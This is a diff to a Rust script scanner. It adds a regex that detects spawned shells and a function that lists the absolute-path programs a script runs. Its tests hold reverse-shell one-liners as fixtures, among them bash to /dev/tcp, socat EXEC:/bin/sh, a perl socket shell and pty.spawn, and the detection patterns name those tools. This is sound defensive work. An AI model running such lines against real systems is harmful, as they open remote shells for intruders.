@@ -10,10 +10,15 @@ pub struct Script {
     pub language: String,
     /// Names of the telling constructs outside comment lines, sorted.
     pub constructs: Vec<String>,
+    /// Programs that it names by an absolute path where a command or the value of a variable may stand, in that order.
+    pub runs: Vec<String>,
 }
 
 /// Longer scripts are looked at up to here; a shell archive carries its payload behind.
 const LIMIT: usize = 8 << 20;
+
+/// More programs than this are not gathered from one script.
+const MOST_RUN: usize = 32;
 
 /// Name and pattern of each construct. They say what a script can do, not that it is wrong to.
 const CONSTRUCTS: &[(&str, &str)] = &[
@@ -40,6 +45,10 @@ const CONSTRUCTS: &[(&str, &str)] = &[
     ("socat exec", r"(?i)\bsocat\b[^\n]*\b(?:exec|system):"),
     ("socat", r"\bsocat\s+\S"),
     (
+        "shell spawned",
+        r#"(?i)\b(?:exec[lv]?[ep]*|system|popen|spawn|call|run|proc_open|shell_exec|passthru)\b[\s(\["',]{1,6}(?:/(?:usr/)?bin/)?(?:ba|da|z|k)?sh\b"#,
+    ),
+    (
         "socket",
         r"\bsocket\.socket\b|\bIO::Socket\b|\bfsockopen\s*\(|\bTCPSocket\b|\buse\s+Socket\b|\bnet\.(?:connect|createServer)\b|require\W+socket\b",
     ),
@@ -60,7 +69,33 @@ pub fn parse(bytes: &[u8]) -> Option<Script> {
     let line = rest.get(..256).unwrap_or(rest);
     let line = line.split(|b| matches!(b, b'\n' | 0)).next().unwrap_or_default();
     let interpreter = String::from_utf8_lossy(line).trim().to_owned();
-    Some(Script { language: language(&interpreter), constructs: constructs(bytes), interpreter })
+    Some(Script { language: language(&interpreter), constructs: constructs(bytes), runs: runs(bytes), interpreter })
+}
+
+/// An absolute path behind what may come before a command, or behind `=`.
+static RUN: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?m)(?:^[ \t]*|[;&|(`][ \t]*|\b(?:exec|nohup|setsid|then|do|else|daemon|env|sudo|--exec|--startas)[ \t]+|[ \t]-[xa][ \t]+|=)["']?(/(?:[\w.+@\[\]-]+/)+[\w.+@\[\]-]+)"#,
+    )
+    .ok()
+});
+
+/// Programs that a script names, in the order of their first mention; at most [`MOST_RUN`].
+pub fn runs(bytes: &[u8]) -> Vec<String> {
+    let text = bytes.get(..LIMIT).unwrap_or(bytes);
+    let mut found: Vec<String> = Vec::new();
+    for hit in RUN.iter().flat_map(|r| r.captures_iter(text)).filter_map(|c| c.get(1)) {
+        let path = String::from_utf8_lossy(hit.as_bytes());
+        let elsewhere = ["/dev/", "/proc/", "/sys/"].iter().any(|p| path.starts_with(p));
+        if elsewhere || found.iter().any(|f| *f == path) || in_comment(text, hit.start()) {
+            continue;
+        }
+        found.push(path.into_owned());
+        if found.len() >= MOST_RUN {
+            break;
+        }
+    }
+    found
 }
 
 fn language(interpreter: &str) -> String {
@@ -122,6 +157,18 @@ mod tests {
     }
 
     #[test]
+    fn names_the_programs_that_it_runs() {
+        let text =
+            b"#!/bin/sh\n# /usr/bin/none\nDAEMON=\"/opt/a/agent\"\ncd / && /usr/sbin/up -c /etc/up.conf >/dev/null\n\
+            start-stop-daemon --start --exec /usr/sbin/two -- -x\n[ -x /usr/bin/three ] && exec /usr/bin/three\n\
+            echo /usr/bin/said\n/proc/self/exe\n";
+        let runs = parse(text).unwrap().runs;
+        assert_eq!(runs, ["/opt/a/agent", "/usr/sbin/up", "/usr/sbin/two", "/usr/bin/three"]);
+        let many: String = (0..100).map(|n| format!("/usr/bin/p{n}\n")).collect();
+        assert_eq!(super::runs(many.as_bytes()).len(), MOST_RUN);
+    }
+
+    #[test]
     fn names_constructs_outside_comments() {
         for (line, expected) in [
             ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", vec!["/dev/tcp/", "bash -i"]),
@@ -132,6 +179,8 @@ mod tests {
             ("socat TCP:1.2.3.4:5 EXEC:/bin/sh,pty", vec!["socat", "socat exec"]),
             ("python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", vec!["pty.spawn"]),
             ("echo 'AT+CGDCONT=1' > /dev/ttyUSB2", vec!["AT command", "modem device"]),
+            ("perl -e 'use Socket; socket(S,1,2,3); exec(\"/bin/sh -i\");'", vec!["shell spawned", "socket"]),
+            ("subprocess.call([\"/bin/bash\", \"-i\"])", vec!["shell spawned"]),
             ("  # nc -e /bin/sh, mkfifo", vec![]),
             ("echo synchronous; scp -R x y; hash -i; ssh-agent -D", vec![]),
         ] {
